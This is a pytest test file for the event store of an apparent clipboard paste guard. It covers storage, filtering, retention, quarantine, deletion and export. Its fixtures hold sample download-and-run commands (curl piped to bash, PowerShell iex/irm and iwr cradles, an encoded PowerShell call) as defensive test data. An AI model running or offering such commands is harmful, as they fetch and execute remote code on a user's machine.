"""The event store as the guard, the viewer and the command line use it."""

from __future__ import annotations

import json
import os
import sqlite3
import stat
import threading
import time
from collections import Counter
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from app.events import Event
from app.storage import EventFilter, EventStore, queries
from app.storage import store as store_module
from app.storage.schema import SCHEMA_VERSION
from tests.app.storage.conftest import T0, Clock, file_bytes, make_event

LEVELS = ("clean", "info", "suspicious", "malicious")
KINDS = ("clipboard_flagged", "paste_blocked", "paste_warned", "error")
TARGETS = ("run_dialog", "terminal", "browser_console", None)


def _populate(store: EventStore, n: int = 240) -> list[Event]:
    """n events spread over 10 days and every level, kind and target, appended in time order."""
    events = []
    for i in range(n):
        event = make_event(
            time=T0 + timedelta(hours=i),
            level=LEVELS[i % 4],
            kind=KINDS[(i // 4) % 4],
            target=TARGETS[(i // 16) % 4],
            summary=f"event number {i}",
            text=None if i % 5 else f"Invoke-Expression #{i}",
        )
        event_id = store.append(event)
        assert event_id is not None
        events.append(event.with_id(event_id))
    return events


def _newest_first(events: list[Event]) -> list[Event]:
    return sorted(events, key=lambda e: (e.time, e.id), reverse=True)


def _matches(e: Event, f: EventFilter) -> bool:
    return (
        (f.since is None or e.time >= f.since)
        and (f.until is None or e.time < f.until)
        and (f.levels is None or e.level in f.levels)
        and (f.kinds is None or e.kind in f.kinds)
        and (f.targets is None or e.target in f.targets)
    )


# ----------------------------------------------------------------------------------------------
# Round trip
# ----------------------------------------------------------------------------------------------


def test_every_field_comes_back_as_it_was_written(store: EventStore) -> None:
    event = Event(
        kind="clipboard_neutralized",
        time=datetime(2026, 2, 3, 4, 5, 6, 789012, tzinfo=UTC),
        level="suspicious",
        score=57,
        rules=("clickfix.fake-captcha", "powershell.download-cradle"),
        summary="Ein Befehl mit Umlauten: äöü – and an emoji 🛡",
        source="hxxps://verify-human[.]example/?ray=1",
        target="terminal",
        action="neutralized",
        text='curl -fsSL hxxp://203[.]0[.]113[.]9/x | bash # "quotes" \\ back\x00slash',
        sha256="a" * 64,
        indicators=({"kind": "url", "value": "http://203.0.113.9/x", "display": "hxxp://…"},),
        findings=(
            {
                "rule_id": "shell.curl-pipe",
                "title": "Downloads and runs a script",
                "technique": "T1204.004",
                "layer": 0,
                "evidence": "curl … | bash",
            },
        ),
        details={"complete": True, "elapsed_ms": 0.123, "nested": {"list": [1, "two", None]}},
        host="workstation-7",
        user="bob",
        app_version="0.1.0",
    )
    event_id = store.append(event)
    assert event_id is not None
    assert store.get(event_id) == event.with_id(event_id)
    assert store.query() == [event.with_id(event_id)]
    assert list(store.iter_events()) == [event.with_id(event_id)]
    assert store.get(event_id + 1) is None


def test_times_are_stored_exactly_and_come_back_in_utc(store: EventStore) -> None:
    paris = timezone(timedelta(hours=1))
    local = datetime(2026, 1, 1, 13, 0, 0, 1, tzinfo=paris)
    naive = datetime(2026, 1, 1, 12, 0, 0, 2)  # taken as UTC, as Event.time always is
    first = store.append(make_event(time=local))
    second = store.append(make_event(time=naive))
    assert first is not None and second is not None
    got_first, got_second = store.get(first), store.get(second)
    assert got_first is not None and got_second is not None
    assert got_first.time == datetime(2026, 1, 1, 12, 0, 0, 1, tzinfo=UTC)
    assert got_first.time.tzinfo is UTC
    assert got_second.time == datetime(2026, 1, 1, 12, 0, 0, 2, tzinfo=UTC)


def test_events_from_clipboard_text_with_lone_surrogates_are_stored(store: EventStore) -> None:
    # Windows clipboards are UTF-16 and may hold half a character; SQLite only takes UTF-8.
    event_id = store.append(make_event(text="cmd /c \ud800 start", summary="\udfff"))
    assert event_id is not None
    got = store.get(event_id)
    assert got is not None and got.text == "cmd /c \ufffd start" and got.summary == "\ufffd"


def test_a_malformed_event_raises_and_is_not_kept(store: EventStore) -> None:
    with pytest.raises(TypeError):
        store.append(make_event(score="high"))
    with pytest.raises(TypeError):
        store.append(make_event(details={"not json": object()}))
    assert store.pending == 0
    assert store.count() == 0


def test_ids_are_never_reused(store: EventStore) -> None:
    first = store.append(make_event())
    second = store.append(make_event())
    assert first is not None and second is not None
    store.delete([second])
    third = store.append(make_event())
    assert third is not None and third > second
    store.delete_all()
    fourth = store.append(make_event())
    assert fourth is not None and fourth > third


def test_an_event_written_alone_is_one_statement_committed_at_once(
    store: EventStore, data_dir: Path
) -> None:
    """An append with nothing else to write is its INSERT alone (SQLite's autocommit: its own
    transaction, taking the write lock as it starts and committing as it ends), one statement
    instead of BEGIN IMMEDIATE, INSERT and COMMIT; one with a quarantined text is still one
    transaction of several statements, so neither can be written without the other."""
    store.append(make_event(summary="first"))  # the sinks are set up, the screens compiled
    assert store._db is not None
    conn = store._db.conn
    said: list[str] = []
    conn.set_trace_callback(said.append)
    try:
        event_id = store.append(make_event(summary="alone"))
        alone = [s for s in said if not s.startswith("--")]  # not the triggers' own lines
        said.clear()
        quarantined = store.append(make_event(summary="with"), original="the original")
        together = [s.split()[0] for s in said if not s.startswith("--")]
    finally:
        conn.set_trace_callback(None)
    # (Python's trace repeats the INSERT's text for each trigger it runs)
    assert len(set(alone)) == 1 and alone[0].startswith("INSERT INTO events"), alone
    assert not conn.in_transaction
    other = sqlite3.connect(data_dir / "events.db")  # committed: another process sees it
    try:
        row = other.execute("SELECT summary FROM events WHERE id = ?", (event_id,)).fetchone()
    finally:
        other.close()
    assert row == ("alone",)
    assert together[0] == "BEGIN" and together[-1] == "COMMIT", together
    assert quarantined is not None
    item = store.quarantined(quarantined)
    assert item is not None and item.text == "the original"


def test_appends_from_several_threads_are_all_stored(store: EventStore) -> None:
    ids: list[int | None] = []

    def writer() -> None:
        for _ in range(200):
            ids.append(store.append(make_event()))

    threads = [threading.Thread(target=writer) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert None not in ids
    assert len(set(ids)) == 800
    assert store.count() == 800


def test_a_slow_read_does_not_hold_up_appends(
    store: EventStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.append(make_event())
    real_count = queries.count
    reading = threading.Event()

    def slow_count(conn: sqlite3.Connection, f: EventFilter, at_most: int | None) -> int:
        reading.set()
        time.sleep(0.5)  # a search over a million events takes about this long
        return real_count(conn, f, at_most=at_most)

    monkeypatch.setattr(queries, "count", slow_count)
    reader = threading.Thread(target=store.count)
    reader.start()
    assert reading.wait(5)
    started = time.perf_counter()
    assert store.append(make_event()) is not None
    assert time.perf_counter() - started < 0.25
    reader.join()


# ----------------------------------------------------------------------------------------------
# Filters, paging and the chart
# ----------------------------------------------------------------------------------------------

FILTERS = [
    EventFilter(),
    EventFilter(levels=frozenset({"malicious"})),
    EventFilter(levels=frozenset({"suspicious", "malicious"})),
    EventFilter(kinds=frozenset({"error"})),
    EventFilter(
        kinds=frozenset({"paste_blocked", "paste_warned"}), targets=frozenset({"terminal"})
    ),
    EventFilter(targets=frozenset({"run_dialog", "browser_console"})),
    EventFilter(since=T0 + timedelta(days=3), until=T0 + timedelta(days=5)),
    EventFilter(since=T0 + timedelta(days=8), levels=frozenset({"info"})),
    EventFilter(until=T0 + timedelta(days=1), kinds=frozenset({"clipboard_flagged"})),
    EventFilter(since=T0 + timedelta(days=30)),
]


@pytest.mark.parametrize("plan", ["by combination", "walking the time index"])
@pytest.mark.parametrize("f", FILTERS, ids=[str(i) for i in range(len(FILTERS))])
def test_filters_select_what_they_say(
    store: EventStore, f: EventFilter, plan: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    if plan == "walking the time index":  # what happens with too many combinations
        monkeypatch.setattr(queries, "MAX_BRANCHES", 0)
    events = _populate(store)
    expected = _newest_first([e for e in events if _matches(e, f)])
    assert store.query(f, limit=1000) == expected
    assert store.count(f) == len(expected)
    assert list(store.iter_events(f, batch=7)) == expected[::-1]
    page = store.query(f, limit=7, before_id=expected[10].id) if len(expected) > 10 else []
    assert page == expected[11:18]
    by_day = Counter[tuple[str, str]]()
    for e in expected:
        by_day[(e.time.date().isoformat(), e.level)] += 1
    assert store.counts_by_day(f) == sorted((d, lvl, n) for (d, lvl), n in by_day.items())


def test_the_combinations_that_occur_are_known_and_forgotten_with_their_events(
    store: EventStore,
) -> None:
    def facets() -> list[tuple[str, str, str | None]]:
        return sorted(
            store._read(lambda c: c.execute("SELECT level, kind, target FROM facets").fetchall()),
            key=repr,
        )

    a = store.append(make_event(level="info", kind="error", target=None))
    store.append(make_event(level="info", kind="error", target=None))
    b = store.append(make_event(level="malicious", kind="paste_blocked", target="terminal"))
    assert facets() == [("info", "error", None), ("malicious", "paste_blocked", "terminal")]
    assert a is not None and b is not None
    store.delete([b])
    assert facets() == [("info", "error", None)]
    store.delete([a])
    assert facets() == [("info", "error", None)]  # one event of that combination is left
    store.delete_all()
    assert facets() == []


def test_an_empty_set_matches_nothing(store: EventStore) -> None:
    _populate(store, 20)
    assert store.query(EventFilter(levels=frozenset())) == []
    assert store.count(EventFilter(kinds=frozenset())) == 0


def test_search_is_a_case_insensitive_substring_of_summary_text_source_and_rules(
    store: EventStore,
) -> None:
    ids = {
        name: store.append(make_event(**fields))
        for name, fields in {
            "summary": {"summary": "Uses PowerShell to download", "text": None},
            "text": {"summary": "x", "text": "cmd /c POWERSHELL -enc AAAA"},
            "source": {"summary": "x", "text": None, "source": "hxxps://powershell[.]example"},
            "rules": {"summary": "x", "text": None, "rules": ("powershell.iex",)},
            "none": {"summary": "x", "text": "bash -c id", "source": None, "rules": ()},
            "percent": {"summary": "100% sure_thing", "text": None},
            "umlaut": {"summary": "ÄRGER mit dem Straße", "text": None},
        }.items()
    }

    def found(needle: str) -> set[int | None]:
        return {e.id for e in store.query(EventFilter(search=needle))}

    assert found("powerShell") == {ids["summary"], ids["text"], ids["source"], ids["rules"]}
    assert found("%") == {ids["percent"]}  # LIKE wildcards are taken literally
    assert found("0%_s") == set()
    assert found("% sure_") == {ids["percent"]}
    assert found("ärger") == {ids["umlaut"]}  # beyond ASCII: Python's casefold
    assert found("STRAßE") == {ids["umlaut"]}
    assert store.count(EventFilter(search="POWERSHELL", levels=frozenset({"malicious"}))) == 4


def test_pages_follow_each_other_without_gaps_or_repeats(store: EventStore) -> None:
    events = _populate(store, 450)
    for f in (EventFilter(), EventFilter(levels=frozenset({"malicious", "info"}))):
        expected = _newest_first([e for e in events if _matches(e, f)])
        seen: list[Event] = []
        page = store.query(f, limit=50)
        while page:
            seen += page
            page = store.query(f, limit=50, before_id=page[-1].id)
        assert seen == expected


def test_paging_continues_when_the_last_event_of_a_page_was_deleted(store: EventStore) -> None:
    events = _newest_first(_populate(store, 30))
    page = store.query(limit=10)
    assert page[-1].id is not None
    store.delete([page[-1].id])
    assert store.query(limit=10, before_id=page[-1].id) == events[10:20]


def test_newest_first_means_by_time_even_when_written_out_of_order(store: EventStore) -> None:
    late = store.append(make_event(time=T0 + timedelta(minutes=5)))
    early = store.append(make_event(time=T0))  # e.g. written after waiting in memory
    assert [e.id for e in store.query()] == [late, early]
    assert [e.id for e in store.iter_events()] == [early, late]


def test_a_limit_of_zero_or_less_gives_nothing(store: EventStore) -> None:
    _populate(store, 5)
    assert store.query(limit=0) == []


def test_counts_by_day_per_level(store: EventStore) -> None:
    for hours, level in ((0, "malicious"), (1, "malicious"), (11, "info"), (13, "malicious")):
        store.append(make_event(time=T0 + timedelta(hours=hours), level=level))
    # T0 is 12:00 UTC: +11 h is 23:00 on day one, +13 h is 01:00 the day after.
    assert store.counts_by_day() == [
        ("2026-03-01", "info", 1),
        ("2026-03-01", "malicious", 2),
        ("2026-03-02", "malicious", 1),
    ]
    assert store.counts_by_day(EventFilter(levels=frozenset({"info"}))) == [
        ("2026-03-01", "info", 1)
    ]
    # Seen from UTC+2, the 23:00 event falls on the second day.
    assert store.counts_by_day(utc_offset=timedelta(hours=2)) == [
        ("2026-03-01", "malicious", 2),
        ("2026-03-02", "info", 1),
        ("2026-03-02", "malicious", 1),
    ]


# ----------------------------------------------------------------------------------------------
# Retention and quarantine
# ----------------------------------------------------------------------------------------------


def test_retention_deletes_by_age_and_by_count(data_dir: Path, clock: Clock) -> None:
    clock.now = T0 + timedelta(days=100)
    with EventStore.open(data_dir, retention_days=30, max_events=5, clock=clock) as store:
        old = [store.append(make_event(time=T0 + timedelta(days=d))) for d in range(60, 65)]
        recent = [store.append(make_event(time=T0 + timedelta(days=d))) for d in range(90, 97)]
        assert store.apply_retention() == 5 + 2
        assert [e.id for e in store.iter_events()] == recent[2:]
        assert all(store.get(i) is None for i in old if i is not None)
        assert store.apply_retention() == 0


def test_retention_lets_appends_and_status_through_between_its_batches(
    data_dir: Path, clock: Clock, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Before, the whole run held the store's lock: the tray's status and the guard's appends
    # waited seconds while 200,000 expired events went. Batches of 50 here, so the run has
    # many; another thread starts when the first batch runs and must be served before the
    # last one (a lock held throughout would serve it only after the run).
    monkeypatch.setattr(store_module, "_RETENTION_FIRST_BATCH", 50)
    monkeypatch.setattr(store_module, "_RETENTION_MAX_BATCH", 50)
    batches: list[int] = []
    served_after: list[int] = []
    real_delete = store_module.search_index.delete_events

    def counting_delete(conn: sqlite3.Connection, condition: str, params: list[object]) -> int:
        if not batches:
            threading.Thread(target=other_thread, daemon=True).start()
        batches.append(1)
        return real_delete(conn, condition, params)

    clock.now = T0 + timedelta(days=100)
    with EventStore.open(data_dir, retention_days=30, clock=clock) as store:
        for i in range(2_000):
            store.append(make_event(time=T0 + timedelta(minutes=i)))

        def other_thread() -> None:
            store.append(make_event(time=clock.now, summary="written during retention"))
            assert store.status["events"] is not None
            served_after.append(len(batches))

        monkeypatch.setattr(store_module.search_index, "delete_events", counting_delete)
        assert store.apply_retention() == 2_000
        assert len(batches) >= 40
        assert served_after and served_after[0] < len(batches), (served_after, len(batches))
        assert [e.summary for e in store.query()] == ["written during retention"]


def test_retention_by_age_can_be_turned_off(data_dir: Path, clock: Clock) -> None:
    clock.now = T0 + timedelta(days=3650)
    with EventStore.open(data_dir, retention_days=0, clock=clock) as store:
        store.append(make_event())
        assert store.apply_retention() == 0
        assert store.count() == 1


def test_quarantine_keeps_the_original_until_it_is_released(store: EventStore) -> None:
    first = store.append(make_event())
    second = store.append(make_event(), original="iex (irm hxxps://second)")
    assert first is not None and second is not None
    item_id = store.quarantine(first, "iex (irm https://first.test)")
    assert store.quarantined() is not None
    latest = store.quarantined()
    assert latest is not None and latest.id == item_id and latest.event_id == first
    by_event = store.quarantined(second)
    assert by_event is not None and by_event.text == "iex (irm hxxps://second)"
    assert by_event.expires - by_event.created == timedelta(days=90)
    store.release(item_id)
    latest = store.quarantined()
    assert latest is not None and latest.event_id == second
    assert store.quarantined(first) is None


def test_quarantine_expires_with_retention_and_its_text_goes(data_dir: Path, clock: Clock) -> None:
    marker = "QUARANTINE-MARKER-7f3a"
    with EventStore.open(data_dir, retention_days=7, clock=clock) as store:
        event_id = store.append(make_event(time=clock.now), original=f"iwr {marker} | iex")
        assert event_id is not None
        clock.advance(days=7, seconds=1)
        assert store.quarantined(event_id) is None  # expired, even before retention runs
        store.apply_retention()
        assert marker.encode() not in file_bytes(data_dir)


def test_quarantine_follows_a_retention_shortened_later(data_dir: Path, clock: Clock) -> None:
    ten_days_on = clock.now + timedelta(days=10)
    with EventStore.open(data_dir, retention_days=90, clock=clock) as store:
        event_id = store.append(make_event(time=ten_days_on), original="iex (irm x)")
    clock.now = ten_days_on
    with EventStore.open(data_dir, retention_days=7, clock=clock) as store:
        assert store.quarantined(event_id) is not None  # kept for 90 days when it was made
        store.apply_retention()
        assert store.quarantined(event_id) is None  # but 7 days is the rule now
        assert store.count() == 1  # the event is new: it stays


def test_quarantining_for_a_missing_event_is_a_programming_error(store: EventStore) -> None:
    with pytest.raises(sqlite3.IntegrityError):
        store.quarantine(12345, "text")


# ----------------------------------------------------------------------------------------------
# Deleting for good
# ----------------------------------------------------------------------------------------------


def test_delete_removes_events_their_quarantine_and_outbox_rows_for_good(
    data_dir: Path, clock: Clock
) -> None:
    marker = "FORGET-ME-5c1e9b"
    with EventStore.open(data_dir, clock=clock, sinks=["syslog"]) as store:
        keep = store.append(make_event(summary="keep me"))
        # Long enough to spill into overflow pages, which are freed differently.
        text = f"powershell {marker} " + "A" * 20_000
        gone = store.append(
            make_event(text=text, source=f"hxxps://{marker}.example"), original=f"{marker} orig"
        )
        assert keep is not None and gone is not None
        assert store.outbox_size("syslog") == 2
        assert marker.encode() in file_bytes(data_dir)

        assert store.delete([gone, 999_999]) == 1
        assert store.get(gone) is None and store.get(keep) is not None
        assert store.quarantined(gone) is None
        assert [item.event_id for item in store.outbox_pending("syslog")] == [keep]
        assert marker.encode() not in file_bytes(data_dir)


def test_delete_all_leaves_nothing_in_the_files(data_dir: Path, clock: Clock) -> None:
    marker = "WIPE-ALL-d00d1e"
    with EventStore.open(data_dir, clock=clock) as store:
        for i in range(300):
            store.append(make_event(text=f"{marker} {i} " + "x" * 300), original=f"{marker}{i}")
        assert store.delete_all() == 300
        assert store.count() == 0 and store.quarantined() is None
        assert marker.encode() not in file_bytes(data_dir)
        assert store.append(make_event()) is not None
    assert marker.encode() not in file_bytes(data_dir)


# ----------------------------------------------------------------------------------------------
# Files, status, lifecycle
# ----------------------------------------------------------------------------------------------


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_folder_and_files_are_private_whatever_the_umask(tmp_path: Path, clock: Clock) -> None:
    data_dir = tmp_path / "new" / "data"
    old = os.umask(0)
    try:
        store = EventStore.open(data_dir, clock=clock)
        store.append(make_event())
    finally:
        os.umask(old)
    try:
        assert stat.S_IMODE(data_dir.stat().st_mode) == 0o700
        names = sorted(p.name for p in data_dir.iterdir())
        assert names == ["events.db", "events.db-shm", "events.db-wal"]
        for p in data_dir.iterdir():
            assert stat.S_IMODE(p.stat().st_mode) == 0o600, p.name
    finally:
        store.close()


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_loose_permissions_of_an_existing_database_are_tightened(
    data_dir: Path, clock: Clock
) -> None:
    EventStore.open(data_dir, clock=clock).close()
    (data_dir / "events.db").chmod(0o644)
    data_dir.chmod(0o755)
    EventStore.open(data_dir, clock=clock).close()
    assert stat.S_IMODE((data_dir / "events.db").stat().st_mode) == 0o600
    assert stat.S_IMODE(data_dir.stat().st_mode) == 0o700


def test_status_says_where_and_how_many(store: EventStore, data_dir: Path) -> None:
    store.append(make_event())
    status = store.status
    assert status["path"] == str(data_dir / "events.db")
    assert status["events"] == 1
    assert status["pending"] == 0
    assert status["degraded"] is None
    assert status["journal_mode"] == "wal"
    assert status["schema_version"] == SCHEMA_VERSION


def test_a_closed_store_refuses_work_and_closes_twice(data_dir: Path, clock: Clock) -> None:
    store = EventStore.open(data_dir, clock=clock)
    store.close()
    store.close()
    with pytest.raises(RuntimeError):
        store.append(make_event())
    with pytest.raises(RuntimeError):
        store.query()


# ----------------------------------------------------------------------------------------------
# Export
# ----------------------------------------------------------------------------------------------


def test_jsonl_lines_built_by_sqlite_are_the_records_of_the_events(store: EventStore) -> None:
    variants = [
        make_event(),
        make_event(
            time=datetime(2026, 5, 6, 7, 8, 9, 999_999, tzinfo=UTC),  # milliseconds truncated
            summary='Ünïcödé 🛡 \x00 \t "quoted" \\ back',
            text=None,
            source=None,
            target=None,
            sha256=None,
            rules=(),
            details={"n": 12345678901234567890, "f": 0.05, "neg": -1.5e-7, "t": True, "z": None},
            findings=({"evidence": "\u202e\u200b", "layer": 2},),
        ),
        make_event(time=datetime(1969, 12, 31, 23, 59, 58, 1_000, tzinfo=UTC)),
    ]
    for event in variants:
        store.append(event)
    events = list(store.iter_events())
    lines = list(store.iter_jsonl(batch=2))
    assert [json.loads(line) for line in lines] == [e.to_record() for e in events]
    assert [json.loads(line)["time"] for line in lines] == [
        "1969-12-31T23:59:58.001Z",
        "2026-03-01T12:00:00.000Z",
        "2026-05-06T07:08:09.999Z",
    ]
    ascii_lines = list(store.iter_jsonl(ensure_ascii=True))
    assert all(line.isascii() for line in ascii_lines)
    assert [json.loads(line) for line in ascii_lines] == [e.to_record() for e in events]
    only = EventFilter(levels=frozenset({"malicious"}), since=T0)
    assert len(list(store.iter_jsonl(only))) == store.count(only) == 2


def test_a_read_never_waits_on_a_write_that_waits_for_the_file(
    data_dir: Path, clock: Clock
) -> None:
    """The viewer's Qt thread reads pages while the guard's worker appends in the same
    process. An append waiting for another program's lock on the file (up to the busy
    timeout) holds the store's lock all that time; reads do not take it."""
    with EventStore.open(data_dir, clock=clock, busy_timeout=30) as store:
        assert store.append(make_event()) is not None
        other = sqlite3.connect(data_dir / "events.db", isolation_level=None)
        other.execute("BEGIN EXCLUSIVE")  # another program holds the file's write lock
        appending = threading.Thread(target=lambda: store.append(make_event()))
        appending.start()
        deadline = time.monotonic() + 10
        while store._lock.acquire(blocking=False):  # until the append holds it, waiting
            store._lock.release()
            assert time.monotonic() < deadline
            time.sleep(0.01)
        read: list[int] = []
        reader = threading.Thread(target=lambda: read.append(len(store.query())))
        reader.start()
        reader.join(10)
        assert read == [1] and appending.is_alive()  # read while the append still waits
        other.execute("ROLLBACK")
        other.close()
        appending.join(10)
        assert store.count() == 2


def test_a_new_file_is_set_up_unsynced_and_then_synced_as_any(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A new file is switched to WAL and given its schema with no sync (six syncs, 50-80 ms
    under load, before the guard's first start is ready); its connection then syncs as every
    other (NORMAL). A file that exists is never written unsynced."""
    from app.storage import database

    traced: list[list[str]] = []
    connect = sqlite3.connect

    def traced_connect(*args: object, **kwargs: object) -> sqlite3.Connection:
        conn = connect(*args, **kwargs)  # type: ignore[arg-type]
        traced.append(statements := [])
        conn.set_trace_callback(statements.append)
        return conn

    monkeypatch.setattr(database.sqlite3, "connect", traced_connect)
    for new in (True, False):
        traced.clear()
        store = EventStore.open(tmp_path / "data")
        try:
            assert store._db is not None
            assert store._db.conn.execute("PRAGMA synchronous").fetchone() == (1,)  # NORMAL
            assert store.append(make_event()) is not None
        finally:
            store.close()
        said = [s.strip() for s in traced[0] if s.strip().upper().startswith(("PRAGMA", "CREATE"))]
        if new:
            off, wal = (
                said.index("PRAGMA synchronous = OFF"),
                said.index("PRAGMA journal_mode = WAL"),
            )
            normal = said.index("PRAGMA synchronous = NORMAL")
            # the schema's tables (the store's own TEMP triggers come after opening)
            creates = [i for i, s in enumerate(said) if s.startswith("CREATE") and "TEMP" not in s]
            assert off < wal < creates[0] and creates[-1] < normal, said
        else:
            assert "PRAGMA synchronous = OFF" not in said
            assert said.index("PRAGMA synchronous = NORMAL") < said.index("PRAGMA quick_check")


@pytest.mark.skipif(os.name != "posix", reason="POSIX advisory locks")
def test_a_reconnect_keeps_the_lock_that_tells_other_processes_the_file_is_in_use(
    store: EventStore,
) -> None:
    """Reopening the file (after an I/O error, say) while a reader stays open must not open
    and close a descriptor of it: that drops this process's shared lock on the file, and the
    next program to close its connection (pasteguard export, say) thinks itself the last one,
    checkpoints and deletes the WAL under the guard's feet (its next writes: disk I/O error)."""
    import subprocess
    import sys

    store.append(make_event())
    assert store.count() == 1  # a reader is open
    store._disconnect()
    store._require_db()  # the writer reconnects, the reader stays
    for _ in range(3):
        assert store.append(make_event()) is not None
    other = (
        "import sqlite3, sys\n"
        "conn = sqlite3.connect(sys.argv[1])\n"
        "print(conn.execute('SELECT count(*) FROM events').fetchone()[0])\n"
        "conn.close()\n"
    )
    done = subprocess.run([sys.executable, "-c", other, str(store.path)], capture_output=True,
                          text=True, timeout=60)  # fmt: skip
    assert done.stdout.strip() == "4", done.stderr
    assert Path(f"{store.path}-wal").exists()
    for _ in range(3):
        assert store.append(make_event()) is not None
    assert store.count() == 7
    assert store.status.get("degraded") is None
